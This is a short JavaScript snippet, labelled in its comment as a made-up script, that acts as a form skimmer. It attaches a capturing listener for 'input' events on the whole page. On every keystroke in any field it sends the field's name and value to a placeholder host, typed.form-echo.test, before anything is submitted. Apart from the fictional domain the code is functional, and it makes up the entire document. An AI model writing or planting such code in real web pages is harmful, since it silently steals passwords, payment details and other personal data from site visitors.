// A made-up script that sends what is typed, before anything is submitted.
document.addEventListener(
  'input',
  (event) => {
    const { name, value } = event.target;
    if (value)
      void fetch('https://typed.form-echo.test/echo', { method: 'POST', body: JSON.stringify({ name, value }) });
  },
  true,
);
